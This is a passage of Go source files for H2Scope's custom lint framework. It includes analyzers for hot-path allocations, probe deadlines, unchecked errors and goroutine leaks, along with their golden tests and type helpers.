		decl := decls[fn]
		if decl == nil || decl.Body == nil {
			continue
		}
		name := rootName[root]
		if name == "" {
			name = root.Name()
		}
		checkHotFunc(pass, decl, name)
	}
}

// checkHotFunc flags the allocating constructs of one hot-reachable
// function, skipping its cold early-exit blocks.
func checkHotFunc(pass *Pass, decl *ast.FuncDecl, root string) {
	info := pass.TypesInfo()
	cold := coldBlocks(info, decl.Body)
	exempt := mapIndexConversions(info, decl.Body)
	flag := func(n ast.Node, what string) {
		pass.Reportf(n.Pos(), "%s in hot path (reachable from %s); hoist it, use a scratch buffer, or move it to a cold error path", what, root)
	}
	ast.Inspect(decl.Body, func(n ast.Node) bool {
		if n == nil {
			return false
		}
		if inColdBlock(cold, n.Pos()) {
			return false
		}
		switch e := n.(type) {
		case *ast.FuncLit:
			flag(e, "closure literal allocates")
			return false // its body is a different frame
		case *ast.GoStmt:
			flag(e, "goroutine launch allocates")
		case *ast.CompositeLit:
			switch info.TypeOf(e).Underlying().(type) {
			case *types.Slice:
				flag(e, "slice literal allocates")
			case *types.Map:
				flag(e, "map literal allocates")
			}
		case *ast.BinaryExpr:
			if e.Op == token.ADD {
				if t, ok := info.TypeOf(e).Underlying().(*types.Basic); ok && t.Kind() == types.String {
					if tv, ok := info.Types[e]; !ok || tv.Value == nil {
						flag(e, "string concatenation allocates")
					}
				}
			}
		case *ast.CallExpr:
			if !exempt[e] {
				checkHotCall(pass, info, e, flag)
			}
		}
		return true
	})
}

// mapIndexConversions collects string conversions used directly as map-index
// keys (m[string(b)]): the compiler elides that copy, so the conversion is
// free and must not be flagged.
func mapIndexConversions(info *types.Info, body ast.Node) map[*ast.CallExpr]bool {
	out := make(map[*ast.CallExpr]bool)
	ast.Inspect(body, func(n ast.Node) bool {
		ix, ok := n.(*ast.IndexExpr)
		if !ok {
			return true
		}
		if xt := info.TypeOf(ix.X); xt == nil {
			return true
		} else if _, isMap := xt.Underlying().(*types.Map); !isMap {
			return true
		}
		if call, ok := ast.Unparen(ix.Index).(*ast.CallExpr); ok {
			if _, isConv := isConversion(info, call); isConv {
				out[call] = true
			}
		}
		return true
	})
	return out
}

// checkHotCall classifies one call inside a hot function.
func checkHotCall(pass *Pass, info *types.Info, call *ast.CallExpr, flag func(ast.Node, string)) {
	// Conversions: string<->[]byte/[]rune copy the payload. The compiler
	// elides the copy for map-index keys (m[string(b)]), which the walker
	// never reaches because map index expressions are exempted at the parent.
	if target, ok := isConversion(info, call); ok && len(call.Args) == 1 {
		tt := target.Underlying()
		at := info.TypeOf(call.Args[0])
		if at == nil {
			return
		}
		au := at.Underlying()
		if isStringType(tt) && isByteOrRuneSlice(au) {
			flag(call, "[]byte-to-string conversion allocates")
		} else if isByteOrRuneSlice(tt) && isStringType(au) {
			flag(call, "string-to-[]byte conversion allocates")
		}
		return
	}
	switch builtinName(info, call) {
	case "make":
		switch info.TypeOf(call).Underlying().(type) {
		case *types.Map:
			flag(call, "make(map) allocates")
		case *types.Chan:
			flag(call, "make(chan) allocates")
		case *types.Slice:
			flag(call, "make([]T) allocates")
		}
		return
	case "new":
		flag(call, "new(T) allocates")
		return
	case "append":
		if len(call.Args) > 0 {
			if freshSlice(info, call.Args[0]) {
				flag(call, "append to a fresh slice allocates")
			}
		}
		return
	case "":
	default:
		return // len, cap, copy, ... are free
	}
	f := calleeFunc(info, call)
	if f != nil && f.Pkg() != nil && f.Pkg().Path() == "fmt" {
		flag(call, "fmt."+f.Name()+" allocates")
		return
	}
	// Boxing a concrete value into a variadic ...any parameter allocates
	// (the fmt rule above catches the common case; this catches log-style
	// helpers).
	if f == nil {
		return
	}
	sig, ok := f.Type().(*types.Signature)
	if !ok || !sig.Variadic() || call.Ellipsis.IsValid() {
		return
	}
	last := sig.Params().At(sig.Params().Len() - 1)
	sl, ok := last.Type().Underlying().(*types.Slice)
	if !ok {
		return
	}
	iface, ok := sl.Elem().Underlying().(*types.Interface)
	if !ok || !iface.Empty() {
		return
	}
	for i := sig.Params().Len() - 1; i < len(call.Args); i++ {
		at := info.TypeOf(call.Args[i])
		if at == nil {
			continue
		}
		if _, isIface := at.Underlying().(*types.Interface); !isIface {
			if tv, ok := info.Types[call.Args[i]]; !ok || tv.Value == nil {
				flag(call.Args[i], "boxing into ...any allocates")
			}
		}
	}
}

// freshSlice reports whether expr denotes a brand-new slice — a nil
// conversion ([]byte(nil)), a nil literal, or a composite literal — so
// appending to it always allocates. Appends whose destination is an existing
// variable amortize and pass.
func freshSlice(info *types.Info, expr ast.Expr) bool {
	switch e := ast.Unparen(expr).(type) {
	case *ast.CompositeLit:
		return true
	case *ast.Ident:
		return e.Name == "nil"
	case *ast.CallExpr:
		if _, ok := isConversion(info, e); ok && len(e.Args) == 1 {
			return freshSlice(info, e.Args[0])
		}
	}
	return false
}

func isStringType(t types.Type) bool {
	b, ok := t.(*types.Basic)
	return ok && b.Kind() == types.String
}

func isByteOrRuneSlice(t types.Type) bool {
	sl, ok := t.(*types.Slice)
	if !ok {
		return false
	}
	b, ok := sl.Elem().Underlying().(*types.Basic)
	return ok && (b.Kind() == types.Byte || b.Kind() == types.Uint8 || b.Kind() == types.Rune || b.Kind() == types.Int32)
}
