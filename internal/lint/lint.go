// Package lint is H2Scope's project-specific static-analysis framework,
// built from scratch on the standard library's go/parser, go/ast, and
// go/types — no golang.org/x/tools dependency.
//
// The scanner's value rests on protocol-level correctness: a probe that
// leaks a connection, drops a Framer error, or ships a frame constant that
// disagrees with RFC 7540 silently corrupts a measurement study. The
// analyzers in this package mechanically enforce those invariants; the
// cmd/h2lint driver runs them over the module and CI fails on any finding.
//
// The framework mirrors the shape of golang.org/x/tools/go/analysis at a
// fraction of its surface: an Analyzer owns a name, a doc string, and a Run
// function; Run receives a Pass giving it the type-checked syntax of one
// package plus a Report sink. Diagnostics render vet-style as
// "file:line:col: analyzer: message".
package lint

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"sort"
)

// Analyzer is one named static-analysis pass.
type Analyzer struct {
	// Name identifies the analyzer in diagnostics and CLI flags. It must be
	// a valid flag name (lowercase, no spaces).
	Name string
	// Doc is a one-line description shown by `h2lint -list`.
	Doc string
	// Run analyzes a single package, reporting findings through pass.Report.
	Run func(pass *Pass)
}

// Pass carries the type-checked syntax of one package into an analyzer.
type Pass struct {
	// Fset maps token positions back to file/line/column.
	Fset *token.FileSet
	// Pkg is the package under analysis.
	Pkg *Package
	// Analyzer is the pass's analyzer (Report stamps its name).
	Analyzer *Analyzer

	report func(Diagnostic)
}

// Files returns the package's parsed files.
func (p *Pass) Files() []*ast.File { return p.Pkg.Files }

// TypesInfo returns the package's type-checking results.
func (p *Pass) TypesInfo() *types.Info { return p.Pkg.Info }

// TypesPkg returns the package's *types.Package.
func (p *Pass) TypesPkg() *types.Package { return p.Pkg.Types }

// Reportf records a finding at pos.
func (p *Pass) Reportf(pos token.Pos, format string, args ...any) {
	p.report(Diagnostic{
		Analyzer: p.Analyzer.Name,
		Pos:      p.Fset.Position(pos),
		Message:  fmt.Sprintf(format, args...),
	})
}

// Diagnostic is one finding.
type Diagnostic struct {
	// Analyzer names the pass that produced the finding.
	Analyzer string `json:"analyzer"`
	// Pos locates the finding (file is module-relative when produced by
	// Runner.Run with a module root).
	Pos token.Position `json:"-"`
	// Message explains the finding.
	Message string `json:"message"`
}

// String renders the diagnostic vet-style.
func (d Diagnostic) String() string {
	return fmt.Sprintf("%s:%d:%d: %s: %s", d.Pos.Filename, d.Pos.Line, d.Pos.Column, d.Analyzer, d.Message)
}

// Run applies analyzers to pkgs and returns the findings sorted by position
// (file, line, column) then analyzer name. Findings covered by a
// //h2lint:ignore <analyzer> <reason> directive on the same line or the line
// above are dropped; the reason is mandatory and "all" matches every
// analyzer.
func Run(analyzers []*Analyzer, pkgs []*Package) []Diagnostic {
	var diags []Diagnostic
	for _, pkg := range pkgs {
		ignores := parseIgnores(pkg)
		for _, a := range analyzers {
			pass := &Pass{
				Fset:     pkg.Fset,
				Pkg:      pkg,
				Analyzer: a,
				report: func(d Diagnostic) {
					if suppressed(d, ignores) {
						return
					}
					diags = append(diags, d)
				},
			}
			a.Run(pass)
		}
	}
	sort.Slice(diags, func(i, j int) bool {
		a, b := diags[i], diags[j]
		if a.Pos.Filename != b.Pos.Filename {
			return a.Pos.Filename < b.Pos.Filename
		}
		if a.Pos.Line != b.Pos.Line {
			return a.Pos.Line < b.Pos.Line
		}
		if a.Pos.Column != b.Pos.Column {
			return a.Pos.Column < b.Pos.Column
		}
		return a.Analyzer < b.Analyzer
	})
	return diags
}

// All returns the full battery of H2Scope analyzers in a stable order.
func All() []*Analyzer {
	return []*Analyzer{
		UncheckedErrAnalyzer,
		RFCConstAnalyzer,
		ConnCloseAnalyzer,
		DeadlineAnalyzer,
		TracePhaseAnalyzer,
		BufflushAnalyzer,
		RetainAnalyzer,
		HotAllocAnalyzer,
		GoroLeakAnalyzer,
	}
}

// ByName returns the analyzer with the given name, or nil.
func ByName(name string) *Analyzer {
	for _, a := range All() {
		if a.Name == name {
			return a
		}
	}
	return nil
}
