package lint

import (
	"go/ast"
	"go/types"
	"strings"
)

// DeadlineAnalyzer enforces bounded probes: an exported entry point in
// internal/core or internal/scan that performs network I/O must either
// accept a context.Context (so callers bound it — the entry point threads
// the deadline onto the connection) or apply an explicit deadline itself
// before its first network write. An unbounded probe wedges a scan worker
// on the first tarpit target, and at census scale one wedged worker per
// thousand targets stalls the whole fleet.
var DeadlineAnalyzer = &Analyzer{
	Name: "deadline",
	Doc:  "requires exported probe entry points in internal/core and internal/scan to take a context.Context or set a deadline before network I/O",
	Run:  runDeadline,
}

// deadlinePackage reports whether pkg is one the analyzer governs.
func deadlinePackage(path string) bool {
	for _, suffix := range []string{"internal/core", "internal/scan"} {
		if path == suffix || strings.HasSuffix(path, "/"+suffix) {
			return true
		}
	}
	return false
}

func runDeadline(pass *Pass) {
	if !deadlinePackage(pass.Pkg.Path) {
		return
	}
	info := pass.TypesInfo()
	for _, file := range pass.Files() {
		for _, decl := range file.Decls {
			fn, ok := decl.(*ast.FuncDecl)
			if !ok || fn.Body == nil || !fn.Name.IsExported() {
				continue
			}
			if hasContextParam(info, fn) {
				continue
			}
			// A function that yields a connection to its caller (a dialer
			// adapter or constructor) transfers deadline responsibility
			// along with the connection; it is not a probe entry point.
			if yieldsConn(info, fn) {
				continue
			}
			netOp, deadlineSet := firstNetOp(info, fn.Body)
			if netOp == nil {
				continue
			}
			if deadlineSet {
				continue
			}
			pass.Reportf(fn.Name.Pos(), "exported entry point %s performs network I/O without a context.Context parameter or a deadline set before the first network operation", fn.Name.Name)
		}
	}
}

// hasContextParam reports whether fn declares a context.Context parameter.
func hasContextParam(info *types.Info, fn *ast.FuncDecl) bool {
	if fn.Type.Params == nil {
		return false
	}
	for _, field := range fn.Type.Params.List {
		if t := info.TypeOf(field.Type); t != nil && isContextType(t) {
			return true
		}
	}
	return false
}

// yieldsConn reports whether fn's result types include a connection.
func yieldsConn(info *types.Info, fn *ast.FuncDecl) bool {
	if fn.Type.Results == nil {
		return false
	}
	for _, field := range fn.Type.Results.List {
		if t := info.TypeOf(field.Type); t != nil && isNetConnLike(t) {
			return true
		}
	}
	return false
}

// firstNetOp scans body in source order for the first network operation and
// reports whether a deadline setter ran before it. Closures are scanned
// too: a probe that does its I/O inside a literal is still a probe.
func firstNetOp(info *types.Info, body *ast.BlockStmt) (op *ast.CallExpr, deadlineBefore bool) {
	seenDeadline := false
	ast.Inspect(body, func(n ast.Node) bool {
		if op != nil {
			return false
		}
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		if f := calleeFunc(info, call); f != nil && isDeadlineSetter(f) {
			seenDeadline = true
			return true
		}
		if isNetOp(info, call) {
			op = call
			deadlineBefore = seenDeadline
			return false
		}
		return true
	})
	return op, deadlineBefore
}

// isNetOp reports whether call performs (or initiates) network I/O: a
// read/write/open method on a connection-like receiver, or any call that
// yields a connection (dialing).
func isNetOp(info *types.Info, call *ast.CallExpr) bool {
	if recv := recvTypeOf(info, call); recv != nil && isNetConnLike(recv) {
		sel := ast.Unparen(call.Fun).(*ast.SelectorExpr)
		name := sel.Sel.Name
		for _, prefix := range []string{"Write", "Open", "Read", "Fetch", "Ping", "Dial"} {
			if strings.HasPrefix(name, prefix) {
				return true
			}
		}
		return false
	}
	results := callResults(info, call)
	if results == nil {
		return false
	}
	for i := 0; i < results.Len(); i++ {
		if isNetConnLike(results.At(i).Type()) {
			return true
		}
	}
	return false
}
