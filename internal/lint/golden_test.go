package lint

import (
	"go/token"
	"path/filepath"
	"regexp"
	"sync"
	"testing"
)

// sharedLoader memoizes one Loader across every test in the package: the
// expensive part of loading is type-checking the standard library, which
// the loader caches per instance.
var sharedLoader = sync.OnceValues(func() (*Loader, error) {
	return NewLoader(".")
})

func loadFixture(t *testing.T, rel string) *Package {
	t.Helper()
	l, err := sharedLoader()
	if err != nil {
		t.Fatalf("NewLoader: %v", err)
	}
	pkg, err := l.LoadDir(filepath.Join("testdata", "src", rel))
	if err != nil {
		t.Fatalf("LoadDir(%s): %v", rel, err)
	}
	return pkg
}

// wantAnn is one backquoted-regexp want annotation from a fixture.
type wantAnn struct {
	file    string
	line    int
	re      *regexp.Regexp
	matched bool
}

var wantPattern = regexp.MustCompile("// want(?: `([^`]+)`)+")
var backquoted = regexp.MustCompile("`([^`]+)`")

// parseWants extracts the want annotations of every file in pkg.
func parseWants(t *testing.T, pkg *Package) []*wantAnn {
	t.Helper()
	var wants []*wantAnn
	for _, file := range pkg.Files {
		for _, cg := range file.Comments {
			for _, c := range cg.List {
				if !wantPattern.MatchString(c.Text) {
					continue
				}
				pos := pkg.Fset.Position(c.Pos())
				for _, m := range backquoted.FindAllStringSubmatch(c.Text, -1) {
					re, err := regexp.Compile(m[1])
					if err != nil {
						t.Fatalf("%s:%d: bad want pattern %q: %v", pos.Filename, pos.Line, m[1], err)
					}
					wants = append(wants, &wantAnn{file: pos.Filename, line: pos.Line, re: re})
				}
			}
		}
	}
	return wants
}

// runGolden runs one analyzer over fixture packages and checks its
// diagnostics against the fixtures' want annotations, both ways: every
// diagnostic must be expected, and every expectation must fire.
func runGolden(t *testing.T, a *Analyzer, fixtures ...string) {
	t.Helper()
	var pkgs []*Package
	var wants []*wantAnn
	for _, rel := range fixtures {
		pkg := loadFixture(t, rel)
		pkgs = append(pkgs, pkg)
		wants = append(wants, parseWants(t, pkg)...)
	}
	for _, d := range Run([]*Analyzer{a}, pkgs) {
		found := false
		for _, w := range wants {
			if w.file == d.Pos.Filename && w.line == d.Pos.Line && w.re.MatchString(d.Message) {
				w.matched = true
				found = true
				break
			}
		}
		if !found {
			t.Errorf("unexpected diagnostic: %s", d)
		}
	}
	for _, w := range wants {
		if !w.matched {
			t.Errorf("%s:%d: expected diagnostic matching %q, got none", w.file, w.line, w.re)
		}
	}
}

func TestUncheckedErrGolden(t *testing.T) {
	runGolden(t, UncheckedErrAnalyzer, "uncheckederr/a")
}

func TestRFCConstGolden(t *testing.T) {
	runGolden(t, RFCConstAnalyzer, "rfcconst/goodframe", "rfcconst/badframe",
		"rfcconst/goodfp", "rfcconst/badfp")
}

func TestConnCloseGolden(t *testing.T) {
	runGolden(t, ConnCloseAnalyzer, "connclose/a")
}

func TestDeadlineGolden(t *testing.T) {
	runGolden(t, DeadlineAnalyzer, "deadline/internal/core")
}

func TestTracePhaseGolden(t *testing.T) {
	runGolden(t, TracePhaseAnalyzer, "tracephase/a")
}

func TestBufflushGolden(t *testing.T) {
	runGolden(t, BufflushAnalyzer, "bufflush/a")
}

func TestRetainGolden(t *testing.T) {
	runGolden(t, RetainAnalyzer, "retain/a")
}

func TestHotAllocGolden(t *testing.T) {
	runGolden(t, HotAllocAnalyzer, "hotalloc/internal/frame", "hotalloc/a")
}

func TestGoroLeakGolden(t *testing.T) {
	runGolden(t, GoroLeakAnalyzer, "goroleak/a")
}

// TestSuppression pins the //h2lint:ignore contract directly: a directive
// without a reason does not suppress, one with a reason does, and "all"
// matches every analyzer.
func TestSuppression(t *testing.T) {
	base := Diagnostic{Analyzer: "retain", Pos: token.Position{Filename: "x.go", Line: 10, Column: 3}}
	cases := []struct {
		name string
		dir  ignoreDirective
		want bool
	}{
		{"same line", ignoreDirective{analyzer: "retain", reason: "r", file: "x.go", line: 10}, true},
		{"line above", ignoreDirective{analyzer: "retain", reason: "r", file: "x.go", line: 9}, true},
		{"wildcard", ignoreDirective{analyzer: "all", reason: "r", file: "x.go", line: 10}, true},
		{"no reason", ignoreDirective{analyzer: "retain", file: "x.go", line: 10}, false},
		{"wrong analyzer", ignoreDirective{analyzer: "hotalloc", reason: "r", file: "x.go", line: 10}, false},
		{"wrong file", ignoreDirective{analyzer: "retain", reason: "r", file: "y.go", line: 10}, false},
		{"too far", ignoreDirective{analyzer: "retain", reason: "r", file: "x.go", line: 8}, false},
	}
	for _, tc := range cases {
		if got := suppressed(base, []ignoreDirective{tc.dir}); got != tc.want {
			t.Errorf("%s: suppressed = %v, want %v", tc.name, got, tc.want)
		}
	}
}

// TestRepoClean is the self-clean gate: every analyzer over every package
// of the real module must produce zero diagnostics.
func TestRepoClean(t *testing.T) {
	if testing.Short() {
		t.Skip("loads the whole module")
	}
	l, err := sharedLoader()
	if err != nil {
		t.Fatalf("NewLoader: %v", err)
	}
	pkgs, err := l.Load("./...")
	if err != nil {
		t.Fatalf("Load(./...): %v", err)
	}
	diags := Run(All(), pkgs)
	for _, d := range diags {
		t.Errorf("repo not lint-clean: %s", d)
	}
	if len(diags) == 0 && len(pkgs) < 10 {
		t.Errorf("suspiciously few packages loaded: %d", len(pkgs))
	}
}

// TestAnalyzerRegistry pins the catalog: nine analyzers, addressable by
// name, each documented.
func TestAnalyzerRegistry(t *testing.T) {
	all := All()
	if len(all) != 9 {
		t.Fatalf("All() returned %d analyzers, want 9", len(all))
	}
	for _, a := range all {
		if a.Doc == "" {
			t.Errorf("analyzer %s has no Doc", a.Name)
		}
		if got := ByName(a.Name); got != a {
			t.Errorf("ByName(%q) = %v, want %v", a.Name, got, a)
		}
	}
	if ByName("nonexistent") != nil {
		t.Error("ByName(nonexistent) != nil")
	}
}
