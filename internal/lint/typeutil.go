package lint

import (
	"go/ast"
	"go/types"
	"strings"
)

// namedTypeIs reports whether t (after stripping pointers and aliases) is
// the named type with the given package-path suffix and type name. Matching
// by path suffix instead of exact path keeps analyzers testable: golden
// fixtures live under testdata/src/... yet mimic real package layouts.
func namedTypeIs(t types.Type, pathSuffix, name string) bool {
	if ptr, ok := t.Underlying().(*types.Pointer); ok {
		t = ptr.Elem()
	}
	if ptr, ok := t.(*types.Pointer); ok {
		t = ptr.Elem()
	}
	named, ok := t.(*types.Named)
	if !ok {
		return false
	}
	obj := named.Obj()
	if obj.Name() != name || obj.Pkg() == nil {
		return false
	}
	p := obj.Pkg().Path()
	return p == pathSuffix || strings.HasSuffix(p, "/"+pathSuffix)
}

// hasMethod reports whether t's method set (value or pointer, interface or
// concrete) contains a method with the given name.
func hasMethod(t types.Type, name string) bool {
	obj, _, _ := types.LookupFieldOrMethod(derefType(t), true, nil, name)
	_, ok := obj.(*types.Func)
	return ok
}

func derefType(t types.Type) types.Type {
	if ptr, ok := t.(*types.Pointer); ok {
		return ptr.Elem()
	}
	return t
}

// isNetConnLike reports whether t is a transport connection: either the
// net.Conn interface itself, a concrete type implementing its
// deadline/close contract (structural check — so *tls.Conn, *netsim.Conn,
// and fixture doubles all match without importing net here), or the
// project's h2conn.Conn.
func isNetConnLike(t types.Type) bool {
	if t == nil {
		return false
	}
	if isH2Conn(t) {
		return true
	}
	return hasMethod(t, "Close") &&
		hasMethod(t, "SetDeadline") &&
		hasMethod(t, "SetReadDeadline") &&
		hasMethod(t, "RemoteAddr")
}

// isResponseWriterLike reports whether t satisfies net/http.ResponseWriter's
// shape (Header/Write/WriteHeader) — the surface the metrics exposition
// endpoint writes scrape bodies through. The check is structural so wrapped
// and fixture ResponseWriters match without importing net/http here.
func isResponseWriterLike(t types.Type) bool {
	if t == nil {
		return false
	}
	return hasMethod(t, "Header") &&
		hasMethod(t, "Write") &&
		hasMethod(t, "WriteHeader")
}

// isH2Conn reports whether t is (a pointer to) internal/h2conn's Conn.
func isH2Conn(t types.Type) bool {
	return namedTypeIs(t, "internal/h2conn", "Conn")
}

// calleeFunc resolves the *types.Func a call expression invokes, or nil for
// calls through function values, conversions, and builtins.
func calleeFunc(info *types.Info, call *ast.CallExpr) *types.Func {
	switch fun := ast.Unparen(call.Fun).(type) {
	case *ast.SelectorExpr:
		if sel, ok := info.Selections[fun]; ok {
			if f, ok := sel.Obj().(*types.Func); ok {
				return f
			}
			return nil
		}
		// Package-qualified call (net.Dial, h2conn.Dial, ...).
		if f, ok := info.Uses[fun.Sel].(*types.Func); ok {
			return f
		}
	case *ast.Ident:
		if f, ok := info.Uses[fun].(*types.Func); ok {
			return f
		}
	}
	return nil
}

// recvTypeOf returns the receiver type of the method a call invokes, or nil
// when the call is not a method call.
func recvTypeOf(info *types.Info, call *ast.CallExpr) types.Type {
	sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr)
	if !ok {
		return nil
	}
	s, ok := info.Selections[sel]
	if !ok || s.Kind() != types.MethodVal {
		return nil
	}
	return s.Recv()
}

// callResults returns the result tuple of call, or nil.
func callResults(info *types.Info, call *ast.CallExpr) *types.Tuple {
	tv, ok := info.Types[call]
	if !ok {
		return nil
	}
	switch t := tv.Type.(type) {
	case *types.Tuple:
		return t
	default:
		if tv.Type == nil || tv.IsVoid() {
			return nil
		}
		return types.NewTuple(types.NewVar(0, nil, "", tv.Type))
	}
}

// returnsError reports whether the call's last result is the error type.
func returnsError(info *types.Info, call *ast.CallExpr) bool {
	res := callResults(info, call)
	if res == nil || res.Len() == 0 {
		return false
	}
	last := res.At(res.Len() - 1).Type()
	return types.Identical(last, types.Universe.Lookup("error").Type())
}

// isDeadlineSetter reports whether f is a SetDeadline/SetReadDeadline/
// SetWriteDeadline method returning error — the net.Conn deadline contract.
func isDeadlineSetter(f *types.Func) bool {
	switch f.Name() {
	case "SetDeadline", "SetReadDeadline", "SetWriteDeadline":
	default:
		return false
	}
	sig, ok := f.Type().(*types.Signature)
	if !ok || sig.Recv() == nil {
		return false
	}
	return sig.Results().Len() == 1 &&
		types.Identical(sig.Results().At(0).Type(), types.Universe.Lookup("error").Type())
}

// isContextType reports whether t is context.Context.
func isContextType(t types.Type) bool {
	return namedTypeIs(t, "context", "Context")
}

// isErrorType reports whether t is the built-in error type.
func isErrorType(t types.Type) bool {
	return types.Identical(t, types.Universe.Lookup("error").Type())
}

// terminatesFlow reports whether stmt unconditionally ends the surrounding
// flow of control: a return, a panic, or a call that never returns
// (os.Exit, log.Fatal*, testing's Fatal*).
func terminatesFlow(info *types.Info, stmt ast.Stmt) bool {
	switch s := stmt.(type) {
	case *ast.ReturnStmt:
		return true
	case *ast.BranchStmt:
		// break/continue/goto leave the block; the conservative walker
		// treats them as terminating the path it is tracking.
		return true
	case *ast.ExprStmt:
		call, ok := s.X.(*ast.CallExpr)
		if !ok {
			return false
		}
		if id, ok := ast.Unparen(call.Fun).(*ast.Ident); ok && id.Name == "panic" {
			return true
		}
		if f := calleeFunc(info, call); f != nil {
			switch f.Name() {
			case "Exit", "Fatal", "Fatalf", "Fatalln", "Goexit":
				return true
			}
		}
	}
	return false
}
