package lint

import (
	"go/ast"
	"go/types"
	"strings"
)

// UncheckedErrAnalyzer flags silently discarded error returns from the I/O
// surfaces a probe's verdict depends on: frame.Framer read/write methods,
// h2conn.Conn frame senders, net.Conn deadline setters, and
// http.ResponseWriter bodies (the metrics exposition endpoint). A dropped
// Framer error turns "the server rejected our provocation" into "the server
// ignored it" — a corrupted measurement, not a crash — and a dropped
// ResponseWriter.Write error serves a truncated /metrics scrape as if it
// were complete.
//
// The same treatment covers the results side of the measurement pipeline: a
// dropped store.Writer.Append or Flush error loses census records after the
// probe already paid for them, a dropped metrics.DebugServer.Close error
// hides a wedged observability endpoint, and a trace.Tracer.Subscribe whose
// *Subscription result is discarded leaks a live bus subscription that can
// never be closed.
//
// Only implicit discards are flagged (a call in statement position, or
// under go/defer where the result is unrecoverable). An explicit `_ =`
// assignment is an acknowledged discard and passes: the codebase uses it
// where an error is genuinely uninteresting (best-effort ACKs, teardown).
var UncheckedErrAnalyzer = &Analyzer{
	Name: "uncheckederr",
	Doc:  "flags ignored error returns from Framer read/write, h2conn.Conn senders, deadline setters, store/metrics writers, and discarded trace subscriptions",
	Run:  runUncheckedErr,
}

func runUncheckedErr(pass *Pass) {
	info := pass.TypesInfo()
	for _, file := range pass.Files() {
		ast.Inspect(file, func(n ast.Node) bool {
			var call *ast.CallExpr
			verb := ""
			switch s := n.(type) {
			case *ast.ExprStmt:
				call, _ = s.X.(*ast.CallExpr)
			case *ast.GoStmt:
				call, verb = s.Call, "go "
			case *ast.DeferStmt:
				call, verb = s.Call, "defer "
			}
			if call == nil {
				return true
			}
			f := calleeFunc(info, call)
			if f == nil {
				return true
			}
			if isDiscardedSubscription(f) {
				pass.Reportf(call.Pos(), "%s(*trace.Tracer).Subscribe: the returned Subscription is discarded and can never be closed — it leaks from the bus", verb)
				return true
			}
			if !returnsError(info, call) {
				return true
			}
			if why := errCriticalCall(info, call, f); why != "" {
				pass.Reportf(call.Pos(), "%s%s: error return is silently discarded (handle it or assign to _ explicitly)", verb, why)
			}
			return true
		})
	}
}

// errCriticalCall classifies a call whose error must not be dropped,
// returning a human-readable description of the callee ("" if the call is
// not on the critical surface).
func errCriticalCall(info *types.Info, call *ast.CallExpr, f *types.Func) string {
	if isDeadlineSetter(f) {
		recv := recvTypeOf(info, call)
		if recv != nil && isNetConnLike(recv) {
			return "(net.Conn)." + f.Name()
		}
		return ""
	}
	recv := recvTypeOf(info, call)
	if recv == nil {
		return ""
	}
	switch {
	case namedTypeIs(recv, "internal/frame", "Framer"):
		if strings.HasPrefix(f.Name(), "Write") || f.Name() == "ReadFrame" {
			return "(*frame.Framer)." + f.Name()
		}
	case isH2Conn(recv):
		if strings.HasPrefix(f.Name(), "Write") ||
			strings.HasPrefix(f.Name(), "OpenStream") || f.Name() == "Ping" {
			return "(*h2conn.Conn)." + f.Name()
		}
	case isResponseWriterLike(recv):
		if f.Name() == "Write" {
			return "(http.ResponseWriter)." + f.Name()
		}
	case namedTypeIs(recv, "internal/store", "Writer"):
		if f.Name() == "Append" || f.Name() == "Flush" {
			return "(*store.Writer)." + f.Name()
		}
	case namedTypeIs(recv, "internal/metrics", "DebugServer"):
		if f.Name() == "Close" {
			return "(*metrics.DebugServer)." + f.Name()
		}
	case namedTypeIs(recv, "internal/obs", "FlightRecorder"):
		// A dropped Dump error loses the forensic evidence the recorder
		// exists to capture; a dropped Close error loses the manifest.
		if f.Name() == "Dump" || f.Name() == "Close" {
			return "(*obs.FlightRecorder)." + f.Name()
		}
	}
	return ""
}

// isDiscardedSubscription reports whether call is a Subscribe returning a
// *trace.Subscription whose result is being thrown away (the analyzer only
// sees the call in statement/go/defer position, so reaching here means the
// result is unrecoverable).
func isDiscardedSubscription(f *types.Func) bool {
	if f.Name() != "Subscribe" {
		return false
	}
	sig, ok := f.Type().(*types.Signature)
	if !ok || sig.Results().Len() != 1 {
		return false
	}
	ptr, ok := sig.Results().At(0).Type().Underlying().(*types.Pointer)
	if !ok {
		return false
	}
	return namedTypeIs(ptr.Elem(), "internal/trace", "Subscription")
}
