package lint

import (
	"go/ast"
	"go/token"
	"go/types"
)

// GoroLeakAnalyzer flags `go` statements whose goroutine can block forever
// on a channel operation with no reachable cancel, close, or pairing
// operation — the "stuck flow" failure shape from Tripathi's "Delays have
// Dangerous Ends": a leaked goroutine pins its connection, its buffers, and
// a scheduler slot for the life of the process, which a million-site census
// run cannot afford.
//
// The analysis is intra-procedural and deliberately conservative: it only
// reasons about channels created in the same function as the `go` statement
// and never aliased away (not passed to unanalyzable calls, stored, or
// returned), because only for those can it see every send, receive, and
// close. Three shapes are flagged:
//
//   - a goroutine sending on an unbuffered local channel whose only
//     receivers sit in select statements with competing cases (a timeout
//     that fires abandons the sender forever — buffer the channel);
//   - a goroutine receiving from a local channel that nothing in the
//     function ever sends to or closes;
//   - a goroutine ranging over a local channel that is never closed.
//
// A channel operation inside a select with an alternative case or a default
// is trusted to have a cancel path and never flagged.
var GoroLeakAnalyzer = &Analyzer{
	Name: "goroleak",
	Doc:  "flags go statements that can block forever on local channels with no reachable close, cancel, or pairing operation",
	Run:  runGoroLeak,
}

func runGoroLeak(pass *Pass) {
	decls := funcDecls(pass)
	for _, decl := range decls {
		if decl != nil && decl.Body != nil {
			checkGoroLeaks(pass, decl, decls)
		}
	}
}

// chanOpKind classifies one channel operation.
type chanOpKind int

const (
	opSend chanOpKind = iota
	opRecv
	opRange
	opClose
)

// chanOp is one send/receive/range/close on a tracked local channel.
type chanOp struct {
	kind chanOpKind
	ch   *types.Var
	node ast.Node
	// goStmt is the nearest enclosing go statement (or, for operations in a
	// named callee's body, the go statement that invoked it); nil for ops on
	// the function's own flow.
	goStmt *ast.GoStmt
	// guarded marks ops that are the comm of a select with an alternative
	// case or a default — assumed to have a cancel path.
	guarded bool
}

// localChan tracks one channel made in the function under analysis.
type localChan struct {
	v        *types.Var
	buffered bool
	escapes  bool
}

func checkGoroLeaks(pass *Pass, decl *ast.FuncDecl, decls map[*types.Func]*ast.FuncDecl) {
	info := pass.TypesInfo()
	chans := collectLocalChans(info, decl.Body)
	if len(chans) == 0 {
		return
	}
	var ops []chanOp
	var goStmts []*ast.GoStmt
	walkChanUses(info, decl.Body, chans, decls, &ops, &goStmts)

	// Fold in operations reached through a `go f(ch)` named callee or a
	// parameterized func literal, with the caller's channels substituted for
